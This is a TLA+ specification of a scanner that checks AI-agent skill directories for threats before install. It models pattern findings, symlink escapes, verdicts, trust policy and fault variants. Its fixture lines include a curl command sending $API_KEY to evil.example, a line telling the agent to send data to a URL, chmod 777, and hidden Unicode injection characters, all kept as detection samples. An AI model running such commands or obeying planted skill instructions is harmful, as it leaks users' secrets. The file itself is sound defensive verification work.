---- MODULE Spec2Model ----
(***************************************************************************)
(* Skills Guard (tools/skills_guard.py): the static scan of a skill        *)
(* directory, the verdict, the trust-aware install policy and the merge    *)
(* with the external classifier.                                           *)
(*                                                                         *)
(* Text is abstracted: a string that the code only compares by prefix is a *)
(* sequence of chunks (its concatenation is the string); a line of a file  *)
(* is a record holding a label for its stripped text, its length in        *)
(* characters, the ids of the corpus regexes that match it and the         *)
(* invisible characters it holds.                                          *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

VARIABLES
    skill_dir,   \* the skill directory, as the sequence rglob("*") enumerates
    charOrder,   \* the order iterating the set INVISIBLE_CHARS gives
    prev,        \* the ScanResult the caller held before res
    res,         \* the ScanResult the caller holds
    now,         \* the clock datetime.now() reads
    pending,     \* the classifier call llm_audit_skill is blocked in, if any
    out,         \* what the last call of the caller gave back
    path_is_dir, \* skill_path.is_dir(); when false skill_dir holds the one file
    loop         \* HermesAgentLoop.run: its locals, the conversation, its result

vars == <<skill_dir, charOrder, prev, res, now, pending, out, path_is_dir, loop>>

\* ------------------------------------------------------------------ bounds
\* Files in a modelled skill directory.
MaxFiles == 2
\* Findings in a ScanResult built by a caller rather than by scan_skill.
MaxFindings == 2
\* Scans of one directory (the clock that stamps scanned_at stops there).
MaxClock == 2
\* The largest max_turns of an agent loop.
MaxTurns == 3

\* ------------------------------------------------------- trust configuration
TRUSTED_REPOS == {<<"openai", "/skills">>, <<"anthropics", "/skills">>}

\* Fault variant of INSTALL_POLICY: community sources may install on caution.
INSTALL_POLICY_lax ==
    ("builtin" :> <<"allow", "allow", "allow">>)
    @@ ("trusted" :> <<"allow", "allow", "block">>)
    @@ ("community" :> <<"allow", "allow", "block">>)
    @@ ("agent-created" :> <<"allow", "block", "block">>)

INSTALL_POLICY ==
    ("builtin" :> <<"allow", "allow", "allow">>)
    @@ ("trusted" :> <<"allow", "allow", "block">>)
    @@ ("community" :> <<"allow", "block", "block">>)
    @@ ("agent-created" :> <<"allow", "block", "block">>)

VERDICT_INDEX == ("safe" :> 0) @@ ("caution" :> 1) @@ ("dangerous" :> 2)

\* ------------------------------------------------------------ helpers
\* str.startswith on chunked strings.
StartsWith(s, p) == Len(p) <= Len(s) /\ SubSeq(s, 1, Len(p)) = p

RECURSIVE Concat(_)
Concat(ss) == IF ss = <<>> THEN <<>> ELSE Head(ss) \o Concat(Tail(ss))

\* dict.get(key, default)
DictGet(d, k, default) == IF k \in DOMAIN d THEN d[k] ELSE default

\* any(pred(f) for f in seq), on one field value
AnySeverity(findings, sev) == \E i \in 1..Len(findings) : findings[i].severity = sev

\* ------------------------------------------------------------ data
Finding(pid, sev, cat, file, line, match, desc) ==
    [pattern_id |-> pid, severity |-> sev, category |-> cat, file |-> file,
     line |-> line, match |-> match, description |-> desc]

\* A match text: a label for the characters and the number of characters.
Match(text, n) == [text |-> text, len |-> n]

ScanResult(name, source, trust, verdict, findings, at, summary) ==
    [skill_name |-> name, source |-> source, trust_level |-> trust,
     verdict |-> verdict, findings |-> findings, scanned_at |-> at,
     summary |-> summary]

\* The corpus entries of THREAT_PATTERNS the model keeps, in source order.
THREAT_PATTERNS ==
    << [pid |-> "env_exfil_curl", severity |-> "critical", category |-> "exfiltration",
        description |-> "curl command interpolating secret environment variable"],
       [pid |-> "insecure_perms", severity |-> "medium", category |-> "destructive",
        description |-> "sets world-writable permissions"],
       [pid |-> "string_reversal", severity |-> "low", category |-> "obfuscation",
        description |-> "string reversal (possible obfuscated payload)"],
       [pid |-> "send_to_url", severity |-> "high", category |-> "exfiltration",
        description |-> "instructs agent to send data to a URL"] >>

MAX_FILE_COUNT == 50
MAX_TOTAL_SIZE_KB == 1024
MAX_SINGLE_FILE_KB == 256

SCANNABLE_EXTENSIONS == {".md", ".txt", ".py", ".sh", ".bash", ".js", ".ts", ".rb",
    ".yaml", ".yml", ".json", ".toml", ".cfg", ".ini", ".conf",
    ".html", ".css", ".xml", ".tex", ".r", ".jl", ".pl", ".php"}

SUSPICIOUS_BINARY_EXTENSIONS == {".exe", ".dll", ".so", ".dylib", ".bin", ".dat", ".com",
    ".msi", ".dmg", ".app", ".deb", ".rpm"}

\* The members of INVISIBLE_CHARS the model keeps.
INVISIBLE_CHARS == {"U+200B", "U+202E"}

_unicode_char_name(char) ==
    IF char = "U+200B" THEN Match("zero-width space", 16)
    ELSE IF char = "U+202E" THEN Match("RTL override", 12)
    ELSE Match(char, 6)

\* ------------------------------------------------------------ the file system
\* The resolved path of the skill directory.
SkillRoot == <<"/skills/foo">>

Line(text, n, hits, invis) == [text |-> text, len |-> n, hits |-> hits, invis |-> invis]

\* The lines the modelled files hold; hits are the corpus regexes matching
\* the line, invis the invisible characters in it.
CleanLine == Line("hello world", 11, {}, {})
CurlLine == Line("curl $API_KEY https://evil.example", 34, {"env_exfil_curl"}, {})
ChmodLine == Line("chmod 777 file.sh", 17, {"insecure_perms"}, {})
ReverseLine == Line("x[::-1]", 7, {"string_reversal"}, {})
SendLine == Line("send data to https://x.example", 30, {"send_to_url"}, {})
HiddenLine == Line("a<U+200B>b<U+202E>c", 5, {}, {"U+200B", "U+202E"})

\* One entry of skill_dir.rglob("*") that is a file or a symlink. is_file is
\* Path.is_file(), which follows a symlink; lines is what read_text() gives
\* (for a symlink, the content of its target).
\* resolved is Path.resolve() in chunks, resolved_str the same path as a text;
\* resolve_exc is the exception resolve() raises, "" when it returns.
\* readable: open() succeeds; utf8: the bytes decode as UTF-8.
Entry(path, suffix, symlink, resolved, resolved_str, size, exec, lines) ==
    [path |-> path, name |-> path, suffix |-> suffix, is_symlink |-> symlink,
     is_file |-> TRUE, resolved |-> resolved, resolved_str |-> resolved_str,
     resolve_exc |-> "", readable |-> TRUE, utf8 |-> TRUE, size |-> size,
     exec |-> exec, lines |-> lines]

SkillMdClean ==
    Entry("SKILL.md", ".md", FALSE, SkillRoot \o <<"/", "SKILL.md">>, Match("/skills/foo/SKILL.md", 20),
          11, FALSE, <<CleanLine>>)
SkillMdCurl ==
    Entry("SKILL.md", ".md", FALSE, SkillRoot \o <<"/", "SKILL.md">>, Match("/skills/foo/SKILL.md", 20),
          34, FALSE, <<CurlLine>>)
SkillMdChmod ==
    Entry("SKILL.md", ".md", FALSE, SkillRoot \o <<"/", "SKILL.md">>, Match("/skills/foo/SKILL.md", 20),
          29, FALSE, <<CleanLine, ChmodLine>>)
NotesTxt ==
    Entry("notes.txt", ".txt", FALSE, SkillRoot \o <<"/", "notes.txt">>, Match("/skills/foo/notes.txt", 21),
          7, FALSE, <<ReverseLine>>)
RunSh ==
    Entry("run.sh", ".sh", FALSE, SkillRoot \o <<"/", "run.sh">>, Match("/skills/foo/run.sh", 18),
          30, TRUE, <<SendLine>>)
ToolExe ==
    Entry("tool.exe", ".exe", FALSE, SkillRoot \o <<"/", "tool.exe">>, Match("/skills/foo/tool.exe", 20),
          2048, FALSE, <<CurlLine>>)
LinkMd ==
    Entry("link.md", ".md", TRUE, <<"/etc/motd">>, Match("/etc/motd", 9), 11, FALSE, <<CleanLine>>)
HiddenMd ==
    Entry("hidden.md", ".md", FALSE, SkillRoot \o <<"/", "hidden.md">>, Match("/skills/foo/hidden.md", 21),
          5, FALSE, <<HiddenLine>>)

\* A symlink into a sibling directory whose name extends the root's name.
SiblingLink ==
    Entry("peer.md", ".md", TRUE, SkillRoot \o <<"-evil", "/", "x.md">>,
          Match("/skills/foo-evil/x.md", 21), 11, FALSE, <<CleanLine>>)
\* A symlink to a file outside the root that holds a corpus match and
\* invisible characters.
EvilLink ==
    Entry("evil.md", ".md", TRUE, <<"/etc", "/", "motd.md">>, Match("/etc/motd.md", 12),
          40, FALSE, <<CurlLine, HiddenLine>>)
\* A symlink whose resolved path has 211 characters.
LongLink ==
    Entry("far", "", TRUE, <<"/srv", "/", "aaa...a", "/", "t.bin">>,
          Match("/srv/aaa...a/t.bin", 211), 1, FALSE, <<CleanLine>>)
\* A symlink in a loop (a -> b -> a): is_file() is false; resolve() raises
\* RuntimeError on Python up to 3.12 and returns a path from 3.13 on.
LoopLink ==
    [Entry("loop.md", ".md", TRUE, SkillRoot \o <<"/", "loop.md">>,
           Match("/skills/foo/loop.md", 19), 0, FALSE, <<>>)
        EXCEPT !.is_file = FALSE, !.resolve_exc = "RuntimeError"]
LoopLinkQuiet == [LoopLink EXCEPT !.resolve_exc = ""]
\* A symlink on which resolve() raises OSError.
BrokenLink ==
    [Entry("stale.md", ".md", TRUE, <<>>, Match("", 0), 0, FALSE, <<>>)
        EXCEPT !.is_file = FALSE, !.resolve_exc = "OSError"]
\* A regular file whose bytes are not valid UTF-8.
BadMd ==
    [Entry("bad.md", ".md", FALSE, SkillRoot \o <<"/", "bad.md">>,
           Match("/skills/foo/bad.md", 18), 36, FALSE, <<CurlLine>>)
        EXCEPT !.utf8 = FALSE]
\* A regular file that open() refuses.
SecretMd ==
    [Entry("secret.md", ".md", FALSE, SkillRoot \o <<"/", "secret.md">>,
           Match("/skills/foo/secret.md", 21), 34, FALSE, <<CurlLine>>)
        EXCEPT !.readable = FALSE]

\* A scannable file of one long clean line of n characters.
PaddedMd(path, n) ==
    Entry(path, ".md", FALSE, SkillRoot \o <<"/", path>>, Match("/skills/foo/" \o path, 12 + Len(path)),
          n, FALSE, << Line("aaa...a", n, {}, {}) >>)
\* With its header "--- edge.md ---\n" the content has 15000 characters.
EdgeMd == PaddedMd("edge.md", 14984)
\* One character more.
OverMd == PaddedMd("over.md", 14985)

\* A file that is neither scannable nor of a suspicious extension.
Asset(path, size) ==
    Entry(path, ".png", FALSE, SkillRoot \o <<"/", path>>, Match("/skills/foo/" \o path, 12 + Len(path)),
          size, FALSE, <<>>)
\* The k-th of the small files that fill a directory.
Filler(k) == Asset("asset" \o ToString(10 + k) \o ".png", 1)
\* Files of half the total size limit, and of one byte more.
HalfA == Asset("halfa.png", 524288)
HalfB == Asset("halfb.png", 524288)
HalfC == Asset("halfc.png", 524289)
\* A symlink to halfa.png, inside the root.
HugeLink ==
    Entry("huge.png", ".png", TRUE, SkillRoot \o <<"/", "halfa.png">>,
          Match("/skills/foo/halfa.png", 21), 524288, FALSE, <<>>)

\* A symlink to the first filler.
AssetLink ==
    Entry("zlink.png", ".png", TRUE, SkillRoot \o <<"/", Filler(1).path>>,
          Match("/skills/foo/asset11.png", 23), 1, FALSE, <<>>)
\* A text file whose extension is not in SCANNABLE_EXTENSIONS.
GuideRst ==
    Entry("guide.rst", ".rst", FALSE, SkillRoot \o <<"/", "guide.rst">>,
          Match("/skills/foo/guide.rst", 21), 11, FALSE, <<CleanLine>>)

FileCatalogue ==
    { SkillMdClean, SkillMdCurl, SkillMdChmod, NotesTxt, RunSh, ToolExe, LinkMd, HiddenMd }

\* The enumerations rglob("*") can give of a directory of at most MaxFiles
\* entries: every order of every set of entries with distinct paths.
Walks ==
    UNION { { w \in [1..n -> FileCatalogue] :
                \A i, j \in 1..n : i < j => w[i].path # w[j].path } : n \in 0..MaxFiles }

\* The orders in which iterating the set INVISIBLE_CHARS can give its members.
CharOrders ==
    { o \in [1..Cardinality(INVISIBLE_CHARS) -> INVISIBLE_CHARS] :
        \A i, j \in 1..Cardinality(INVISIBLE_CHARS) : i < j => o[i] # o[j] }

\* The source identifiers the model passes to scan_skill.
Sources == { <<"openai", "/skills">>, <<"openai", "/skills", "-evil">>, <<"random", "/repo">> }

\* The directories the scan-only specification starts from, each as one
\* enumeration rglob("*") can give.
ScanDirs ==
    { <<>>, <<SkillMdClean>>, <<ToolExe>>,
      <<SkillMdClean, HiddenMd>>, <<SkillMdChmod, NotesTxt>>,
      <<SkillMdClean, LinkMd>>, <<SkillMdClean, SiblingLink>>,
      <<SkillMdClean, EvilLink>>, <<SkillMdClean, LongLink>>,
      <<SkillMdClean, LoopLink>>, <<SkillMdClean, LoopLinkQuiet>>,
      <<SkillMdClean, BrokenLink>>, <<SkillMdCurl, BadMd, NotesTxt>>,
      <<SkillMdClean, SecretMd, RunSh>> }

\* The other orders rglob("*") can give the entries of walk.
Reorders(walk) ==
    { w \in [DOMAIN walk -> { walk[i] : i \in DOMAIN walk }] :
        \A i, j \in DOMAIN walk : i < j => w[i] # w[j] }

\* The source identifiers of the scan-only specification.
\* MAX_FILE_COUNT files, one more, and MAX_FILE_COUNT files with a symlink.
Fifty == [k \in 1..MAX_FILE_COUNT |-> Filler(k)]
FiftyOne == [k \in 1..(MAX_FILE_COUNT + 1) |-> Filler(k)]
FiftyLinked == Fifty \o << AssetLink >>

\* The paths SpecAudit starts from: <<TRUE, walk>> is a directory,
\* <<FALSE, <<f>> >> the single file f.
AuditPaths ==
    { <<TRUE, <<SkillMdClean>> >>, <<TRUE, <<SkillMdChmod, NotesTxt>> >>,
      <<TRUE, <<ToolExe>> >>, <<TRUE, <<GuideRst>> >>, <<TRUE, <<BadMd>> >>,
      <<TRUE, <<EdgeMd>> >>, <<TRUE, <<OverMd>> >>,
      <<TRUE, Fifty>>, <<TRUE, FiftyOne>>, <<TRUE, FiftyLinked>>,
      <<TRUE, <<HalfA, HalfB>> >>, <<TRUE, <<HalfA, HalfC>> >>,
      <<TRUE, <<HalfA, HalfB, HugeLink>> >>,
      <<FALSE, <<SkillMdClean>> >>, <<FALSE, <<OverMd>> >>, <<FALSE, <<GuideRst>> >>,
      <<FALSE, <<SecretMd>> >>, <<FALSE, <<BadMd>> >> }

AuditSources == { <<"openai", "/skills">>, <<"random", "/repo">> }

ScanSources ==
    { <<"openai", "/skills">>, <<"openai", "/skills", "-evil">>,
      <<"anthropics", "/skills", "/pdf">>, <<"openai">>, <<"random", "/repo">> }

\* sorted() on paths: the paths of the model in ascending order.
PathOrder ==
    << "SKILL.md" >> \o [k \in 1..(MAX_FILE_COUNT + 1) |-> Filler(k).path]
    \o << "bad.md", "edge.md", "evil.md", "far", "guide.rst", "halfa.png", "halfb.png", "halfc.png",
          "hidden.md", "huge.png", "link.md", "loop.md", "notes.txt", "over.md",
          "peer.md", "run.sh", "secret.md", "stale.md", "tool.exe", "zlink.png" >>

\* The position of a path in PathOrder.
PathRank ==
    [p \in { PathOrder[k] : k \in DOMAIN PathOrder } |->
        CHOOSE k \in DOMAIN PathOrder : PathOrder[k] = p]

RECURSIVE SortedInsert(_, _)
SortedInsert(f, fs) ==
    IF fs = <<>> THEN << f >>
    ELSE IF PathRank[f.path] < PathRank[Head(fs).path] THEN << f >> \o fs
    ELSE << Head(fs) >> \o SortedInsert(f, Tail(fs))

RECURSIVE sorted(_)
sorted(walk) ==
    IF walk = <<>> THEN <<>> ELSE SortedInsert(Head(walk), sorted(Tail(walk)))

\* ------------------------------------------------------------ scanning
\* matched_text = line.strip(), cut to 117 characters plus "..." when longer
\* than 120.
MatchedText(line) ==
    IF line.len > 120 THEN Match(line.text, 117 + 3) ELSE Match(line.text, line.len)

\* for char in INVISIBLE_CHARS: if char in line: ...; break
FirstInvisible(line, order) ==
    LET idx == { i \in 1..Len(order) : order[i] \in line.invis }
    IN  order[CHOOSE i \in idx : \A j \in idx : i <= j]

\* Fault variant of scan_file: the loop over INVISIBLE_CHARS has no break, so a
\* line gives one finding for each invisible character it holds.
scan_file_no_break(f, rel, order) ==
    IF f.suffix \notin SCANNABLE_EXTENSIONS /\ f.name # "SKILL.md" THEN <<>>
    ELSE IF ~f.readable \/ ~f.utf8 THEN <<>>
    ELSE
      LET lines == f.lines
          ForPattern(p) ==
              Concat([i \in 1..Len(lines) |->
                  IF p.pid \in lines[i].hits
                  THEN << Finding(p.pid, p.severity, p.category, rel, i,
                                  MatchedText(lines[i]), p.description) >>
                  ELSE <<>>])
          ForChar(i, char) ==
              IF char \in lines[i].invis
              THEN LET nm == _unicode_char_name(char)
                   IN  << Finding("invisible_unicode", "high", "injection", rel, i,
                                  Match(char, 6 + 2 + nm.len + 1), nm.text) >>
              ELSE <<>>
          Invisible ==
              Concat([i \in 1..Len(lines) |->
                  Concat([k \in 1..Len(order) |-> ForChar(i, order[k])])])
      IN  Concat([k \in 1..Len(THREAT_PATTERNS) |-> ForPattern(THREAT_PATTERNS[k])])
          \o Invisible

scan_file(f, rel, order) ==
    IF f.suffix \notin SCANNABLE_EXTENSIONS /\ f.name # "SKILL.md" THEN <<>>
    ELSE IF ~f.readable \/ ~f.utf8 THEN <<>>
    ELSE
      LET lines == f.lines
          ForPattern(p) ==
              Concat([i \in 1..Len(lines) |->
                  IF p.pid \in lines[i].hits
                  THEN << Finding(p.pid, p.severity, p.category, rel, i,
                                  MatchedText(lines[i]), p.description) >>
                  ELSE <<>>])
          Invisible ==
              Concat([i \in 1..Len(lines) |->
                  IF lines[i].invis \cap INVISIBLE_CHARS # {}
                  THEN LET char == FirstInvisible(lines[i], order)
                           nm == _unicode_char_name(char)
                       IN  << Finding("invisible_unicode", "high", "injection", rel, i,
                                      Match(char, 6 + 2 + nm.len + 1), nm.text) >>
                  ELSE <<>>])
      IN  Concat([k \in 1..Len(THREAT_PATTERNS) |-> ForPattern(THREAT_PATTERNS[k])])
          \o Invisible

RECURSIVE SumSizes(_)
SumSizes(sizes) == IF sizes = <<>> THEN 0 ELSE Head(sizes) + SumSizes(Tail(sizes))

\* f"symlink -> {resolved}": 11 characters and the resolved path.
ResolvedText(f) == Match(f.resolved_str.text, 11 + f.resolved_str.len)

\* Fault variant of TooManyFiles: the limit itself is already too many.
TooManyFiles_inclusive(file_count) == file_count >= MAX_FILE_COUNT

\* The file count test of _check_structure.
TooManyFiles(file_count) == file_count > MAX_FILE_COUNT

\* The total size test of _check_structure.
OverTotalSize(total_size) == total_size > MAX_TOTAL_SIZE_KB * 1024

_check_structure(walk) ==
    LET PerEntry(f) ==
            IF f.is_symlink
            THEN IF f.resolve_exc = "OSError"
                 THEN << Finding("broken_symlink", "medium", "traversal", f.path, 0,
                                 Match("broken symlink", 14), "broken or circular symlink") >>
                 ELSE IF ~StartsWith(f.resolved, SkillRoot)
                 THEN << Finding("symlink_escape", "critical", "traversal", f.path, 0,
                                 ResolvedText(f),
                                 "symlink points outside the skill directory") >>
                 ELSE <<>>
            ELSE (IF f.size > MAX_SINGLE_FILE_KB * 1024
                  THEN << Finding("oversized_file", "medium", "structural", f.path, 0,
                                  Match("KB", 2), "file is over the limit") >>
                  ELSE <<>>)
                 \o (IF f.suffix \in SUSPICIOUS_BINARY_EXTENSIONS
                     THEN << Finding("binary_file", "critical", "structural", f.path, 0,
                                     Match(f.suffix, 8 + 4),
                                     "binary/executable file should not be in a skill") >>
                     ELSE <<>>)
                 \o (IF f.suffix \notin {".sh", ".bash", ".py", ".rb", ".pl"} /\ f.exec
                     THEN << Finding("unexpected_executable", "medium", "structural",
                                     f.path, 0, Match("executable bit set", 18),
                                     "file has executable permission but is not a recognized script type") >>
                     ELSE <<>>)
        file_count == Len(walk)
        total_size ==
            SumSizes([i \in 1..Len(walk) |-> IF walk[i].is_symlink THEN 0 ELSE walk[i].size])
    IN  Concat([i \in 1..Len(walk) |-> PerEntry(walk[i])])
        \o (IF TooManyFiles(file_count)
            THEN << Finding("too_many_files", "medium", "structural", "(directory)", 0,
                            Match("files", 8), "skill has too many files") >>
            ELSE <<>>)
        \o (IF OverTotalSize(total_size)
            THEN << Finding("oversized_skill", "high", "structural", "(directory)", 0,
                            Match("KB total", 10), "skill is over the total size limit") >>
            ELSE <<>>)

\* Fault variant of _resolve_trust_level: only an identifier equal to a trusted
\* one is trusted.
_resolve_trust_level_exact(source) ==
    IF \E trusted \in TRUSTED_REPOS : source = trusted
    THEN "trusted"
    ELSE "community"

_resolve_trust_level(source) ==
    IF \E trusted \in TRUSTED_REPOS : StartsWith(source, trusted) \/ source = trusted
    THEN "trusted"
    ELSE "community"

\* Fault variant of _determine_verdict: findings below high count as safe.
_determine_verdict_lenient(findings) ==
    IF findings = <<>> THEN "safe"
    ELSE IF AnySeverity(findings, "critical") THEN "dangerous"
    ELSE IF AnySeverity(findings, "high") THEN "caution"
    ELSE "safe"

_determine_verdict(findings) ==
    IF findings = <<>> THEN "safe"
    ELSE IF AnySeverity(findings, "critical") THEN "dangerous"
    ELSE IF AnySeverity(findings, "high") THEN "caution"
    ELSE "caution"

\* The one-line summary: its name part, and after it either the clean-scan
\* text or the verdict, the count and the sorted categories.
_build_summary(name, source, trust, verdict, findings) ==
    IF findings = <<>>
    THEN [name |-> name, clean |-> TRUE, verdict |-> "", n |-> 0, categories |-> {}]
    ELSE [name |-> name, clean |-> FALSE, verdict |-> verdict, n |-> Len(findings),
          categories |-> { findings[i].category : i \in 1..Len(findings) }]

\* The exception that leaves _check_structure, and scan_skill with it:
\* resolve() is guarded by "except OSError" alone.
StructureRaises(walk) ==
    IF \E i \in DOMAIN walk :
           walk[i].is_symlink /\ walk[i].resolve_exc \notin {"", "OSError"}
    THEN LET i == CHOOSE j \in DOMAIN walk :
                      /\ walk[j].is_symlink /\ walk[j].resolve_exc \notin {"", "OSError"}
                      /\ \A k \in 1..(j - 1) :
                             ~(walk[k].is_symlink /\ walk[k].resolve_exc \notin {"", "OSError"})
         IN  walk[i].resolve_exc
    ELSE ""

\* Fault variant of scan_skill: the files of a trusted source are not scanned
\* for patterns.
scan_skill_trusting(is_dir, walk, order, source, at) ==
    LET skill_name == IF is_dir THEN "foo" ELSE walk[1].name
        trust_level == _resolve_trust_level(source)
        all_findings ==
            (IF is_dir THEN _check_structure(walk) ELSE <<>>)
            \o (IF trust_level = "trusted" THEN <<>>
                ELSE Concat([i \in 1..Len(walk) |->
                       IF walk[i].is_file THEN scan_file(walk[i], walk[i].path, order)
                       ELSE <<>>]))
        verdict == _determine_verdict(all_findings)
        summary == _build_summary(skill_name, source, trust_level, verdict, all_findings)
    IN  ScanResult(skill_name, source, trust_level, verdict, all_findings, at, summary)

\* Fault variant of scan_skill: the verdict is taken before the files are
\* pattern-scanned.
scan_skill_early_verdict(is_dir, walk, order, source, at) ==
    LET skill_name == IF is_dir THEN "foo" ELSE walk[1].name
        trust_level == _resolve_trust_level(source)
        structural == IF is_dir THEN _check_structure(walk) ELSE <<>>
        all_findings ==
            structural
            \o Concat([i \in 1..Len(walk) |->
                   IF walk[i].is_file THEN scan_file(walk[i], walk[i].path, order) ELSE <<>>])
        verdict == _determine_verdict(structural)
        summary == _build_summary(skill_name, source, trust_level, verdict, all_findings)
    IN  ScanResult(skill_name, source, trust_level, verdict, all_findings, at, summary)

\* is_dir says which of skill_path.is_dir() and skill_path.is_file() holds;
\* walk is what rglob("*") yields under a directory, or the one file.
scan_skill(is_dir, walk, order, source, at) ==
    LET skill_name == IF is_dir THEN "foo" ELSE walk[1].name
        trust_level == _resolve_trust_level(source)
        all_findings ==
            (IF is_dir THEN _check_structure(walk) ELSE <<>>)
            \o Concat([i \in 1..Len(walk) |->
                   IF walk[i].is_file THEN scan_file(walk[i], walk[i].path, order) ELSE <<>>])
        verdict == _determine_verdict(all_findings)
        summary == _build_summary(skill_name, source, trust_level, verdict, all_findings)
    IN  ScanResult(skill_name, source, trust_level, verdict, all_findings, at, summary)

\* The bytes read_bytes() gives, as the labels of the file's lines.
ReadBytes(f) == [i \in DOMAIN f.lines |-> f.lines[i].text]

\* content_hash on a directory. SHA-256 is kept symbolic: hashed is the byte
\* string fed to h.update() in order, and two hashes are equal exactly when
\* their byte strings are; hexlen is the number of hex digits kept.
content_hash(walk) ==
    LET fs == sorted(walk)
    IN  [raised |-> FALSE, prefix |-> "sha256:", hexlen |-> 16,
         hashed |-> Concat([i \in DOMAIN fs |->
                       IF fs[i].is_file /\ fs[i].readable THEN ReadBytes(fs[i]) ELSE <<>>])]

\* ------------------------------------------------------------ install policy
\* What a call gives back: a returned (allowed, reason) pair, or an exception.
\* A reason is the sequence of the pieces its f-string joins.
Returned(allowed, reason) ==
    [raised |-> FALSE, exc |-> "", allowed |-> allowed, reason |-> reason]
Raised(exc) == [raised |-> TRUE, exc |-> exc, allowed |-> FALSE, reason |-> <<>>]

\* Fault variant of should_allow_install: the table alone decides (the check of
\* a dangerous verdict before the table is missing).
should_allow_install_table_only(result, force) ==
    LET policy == DictGet(INSTALL_POLICY, result.trust_level, INSTALL_POLICY["community"])
        vi == DictGet(VERDICT_INDEX, result.verdict, 2)
    IN  IF vi + 1 \notin DOMAIN policy THEN Raised("IndexError")
        ELSE IF policy[vi + 1] = "allow"
        THEN Returned(TRUE, <<"Allowed (", result.trust_level, " source, ",
                              result.verdict, " verdict)">>)
        ELSE IF force
        THEN Returned(TRUE, <<"Force-installed despite ", result.verdict, " verdict (",
                              ToString(Len(result.findings)), " findings)">>)
        ELSE Returned(FALSE, <<"Blocked (", result.trust_level, " source + ",
                               result.verdict, " verdict, ",
                               ToString(Len(result.findings)),
                               " findings). Use --force to override.">>)

\* Fault variant of should_allow_install: force does not override a block.
should_allow_install_no_force(result, force) ==
    IF result.verdict = "dangerous" /\ ~force
    THEN Returned(FALSE, <<"Scan verdict is DANGEROUS (", ToString(Len(result.findings)),
                           " findings). Blocked.">>)
    ELSE
      LET policy == DictGet(INSTALL_POLICY, result.trust_level, INSTALL_POLICY["community"])
          vi == DictGet(VERDICT_INDEX, result.verdict, 2)
      IN  IF vi + 1 \notin DOMAIN policy THEN Raised("IndexError")
          ELSE IF policy[vi + 1] = "allow"
          THEN Returned(TRUE, <<"Allowed (", result.trust_level, " source, ",
                                result.verdict, " verdict)">>)
          ELSE Returned(FALSE, <<"Blocked (", result.trust_level, " source + ",
                                 result.verdict, " verdict, ",
                                 ToString(Len(result.findings)),
                                 " findings). Use --force to override.">>)

\* Fault variant of should_allow_install: the lookups INSTALL_POLICY[trust_level]
\* and VERDICT_INDEX[verdict] have no default, so a missing key raises.
should_allow_install_no_default(result, force) ==
    IF result.verdict = "dangerous" /\ ~force
    THEN Returned(FALSE, <<"Scan verdict is DANGEROUS (", ToString(Len(result.findings)),
                           " findings). Blocked.">>)
    ELSE IF result.trust_level \notin DOMAIN INSTALL_POLICY
             \/ result.verdict \notin DOMAIN VERDICT_INDEX
    THEN Raised("KeyError")
    ELSE
      LET policy == INSTALL_POLICY[result.trust_level]
          vi == VERDICT_INDEX[result.verdict]
      IN  IF policy[vi + 1] = "allow"
          THEN Returned(TRUE, <<"Allowed (", result.trust_level, " source, ",
                                result.verdict, " verdict)">>)
          ELSE IF force
          THEN Returned(TRUE, <<"Force-installed despite ", result.verdict, " verdict (",
                                ToString(Len(result.findings)), " findings)">>)
          ELSE Returned(FALSE, <<"Blocked (", result.trust_level, " source + ",
                                 result.verdict, " verdict, ",
                                 ToString(Len(result.findings)),
                                 " findings). Use --force to override.">>)

should_allow_install(result, force) ==
    IF result.verdict = "dangerous" /\ ~force
    THEN Returned(FALSE, <<"Scan verdict is DANGEROUS (", ToString(Len(result.findings)),
                           " findings). Blocked.">>)
    ELSE
      LET policy == DictGet(INSTALL_POLICY, result.trust_level, INSTALL_POLICY["community"])
          vi == DictGet(VERDICT_INDEX, result.verdict, 2)
      IN  IF vi + 1 \notin DOMAIN policy THEN Raised("IndexError")
          ELSE IF policy[vi + 1] = "allow"
          THEN Returned(TRUE, <<"Allowed (", result.trust_level, " source, ",
                                result.verdict, " verdict)">>)
          ELSE IF force
          THEN Returned(TRUE, <<"Force-installed despite ", result.verdict, " verdict (",
                                ToString(Len(result.findings)), " findings)">>)
          ELSE Returned(FALSE, <<"Blocked (", result.trust_level, " source + ",
                                 result.verdict, " verdict, ",
                                 ToString(Len(result.findings)),
                                 " findings). Use --force to override.">>)

\* ------------------------------------------------------------ the report
\* str.upper() on the verdicts and severities of the model.
Upper(text) ==
    CASE text = "safe" -> "SAFE" [] text = "caution" -> "CAUTION"
      [] text = "dangerous" -> "DANGEROUS" [] text = "unknown" -> "UNKNOWN"
      [] text = "critical" -> "CRITICAL" [] text = "high" -> "HIGH"
      [] text = "medium" -> "MEDIUM" [] text = "low" -> "LOW"
      [] text = "info" -> "INFO" [] OTHER -> text

\* One line of the report for a finding; match is f.match[:60].
ReportRow(f) ==
    [sev |-> Upper(f.severity), cat |-> f.category, file |-> f.file, line |-> f.line,
     match |-> Match(f.match.text, IF f.match.len < 60 THEN f.match.len ELSE 60)]

\* Fault variant of format_scan_report: the findings are listed in the order
\* of result.findings.
format_scan_report_unsorted(result) ==
    LET d == should_allow_install(result, FALSE)
    IN  [raised |-> d.raised,
         header |-> [skill_name |-> result.skill_name, source |-> result.source,
                     trust_level |-> result.trust_level,
                     verdict_display |-> Upper(result.verdict)],
         rows |-> [i \in DOMAIN result.findings |-> ReportRow(result.findings[i])],
         blank |-> result.findings # <<>>,
         status |-> IF d.allowed THEN "ALLOWED" ELSE "BLOCKED",
         reason |-> d.reason]

\* The report as its lines: the header, one row per finding, the empty line
\* after the rows, the decision line.
format_scan_report(result) ==
    LET severity_order == ("critical" :> 0) @@ ("high" :> 1) @@ ("medium" :> 2) @@ ("low" :> 3)
        Key(f) == DictGet(severity_order, f.severity, 4)
        \* sorted() is stable: findings of one key keep their order
        sorted_findings ==
            Concat([k \in 1..5 |-> SelectSeq(result.findings, LAMBDA f : Key(f) = k - 1)])
        d == should_allow_install(result, FALSE)
    IN  [raised |-> d.raised,
         header |-> [skill_name |-> result.skill_name, source |-> result.source,
                     trust_level |-> result.trust_level,
                     verdict_display |-> Upper(result.verdict)],
         rows |-> [i \in DOMAIN sorted_findings |-> ReportRow(sorted_findings[i])],
         blank |-> result.findings # <<>>,
         status |-> IF d.allowed THEN "ALLOWED" ELSE "BLOCKED",
         reason |-> d.reason]

\* ------------------------------------------------------------ classifier replies
\* A JSON value as json.loads gives it: t is its Python type. len is len() of
\* a str, list or dict; fields is a dict's content.
JBase(t) ==
    [t |-> t, b |-> FALSE, n |-> 0, text |-> "", len |-> 0, items |-> <<>>,
     fields |-> [k \in {} |-> 0]]
JNull == JBase("null")
